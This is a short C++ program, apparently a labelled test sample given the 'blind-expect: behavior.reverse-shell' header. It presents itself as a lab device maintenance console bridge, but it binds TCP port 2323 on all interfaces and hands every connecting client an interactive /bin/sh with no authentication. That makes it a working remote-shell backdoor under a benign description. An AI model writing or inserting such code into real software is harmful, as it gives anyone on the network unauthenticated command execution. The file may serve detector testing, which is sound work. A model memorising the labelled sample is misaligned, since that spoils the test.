// blind-expect: behavior.reverse-shell
// Lab device console bridge that exposes a maintenance terminal over TCP.
#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

class ConsoleBridge {
public:
    explicit ConsoleBridge(int client) : client_(client) {}

    bool start() {
        int in[2], out[2];
        if (pipe(in) != 0 || pipe(out) != 0)
            return false;
        child_ = fork();
        if (child_ == 0) {
            dup2(in[0], STDIN_FILENO);
            dup2(out[1], STDOUT_FILENO);
            dup2(out[1], STDERR_FILENO);
            close(in[1]);
            close(out[0]);
            execl("/bin/sh", "sh", "-i", static_cast<char *>(nullptr));
            _exit(127);
        }
        close(in[0]);
        close(out[1]);
        to_shell_ = in[1];
        from_shell_ = out[0];
        return child_ > 0;
    }

    void relay() {
        pollfd fds[2] = {{client_, POLLIN, 0}, {from_shell_, POLLIN, 0}};
        char buf[4096];
        for (;;) {
            if (poll(fds, 2, -1) < 0)
                break;
            if (fds[0].revents & (POLLIN | POLLHUP)) {
                ssize_t n = recv(client_, buf, sizeof buf, 0);
                if (n <= 0 || write(to_shell_, buf, static_cast<size_t>(n)) != n)
                    break;
            }
            if (fds[1].revents & (POLLIN | POLLHUP)) {
                ssize_t n = read(from_shell_, buf, sizeof buf);
                if (n <= 0 || send(client_, buf, static_cast<size_t>(n), 0) != n)
                    break;
            }
        }
        close(to_shell_);
        close(from_shell_);
        waitpid(child_, nullptr, 0);
    }

private:
    int client_;
    int to_shell_ = -1, from_shell_ = -1;
    pid_t child_ = -1;
};

int main()
{
    int srv = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(2323);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(srv, reinterpret_cast<sockaddr *>(&a), sizeof a) != 0 || listen(srv, 1) != 0)
        return 1;
    for (;;) {
        int c = accept(srv, nullptr, nullptr);
        if (c < 0)
            continue;
        ConsoleBridge bridge(c);
        if (bridge.start())
            bridge.relay();
        close(c);
    }
}
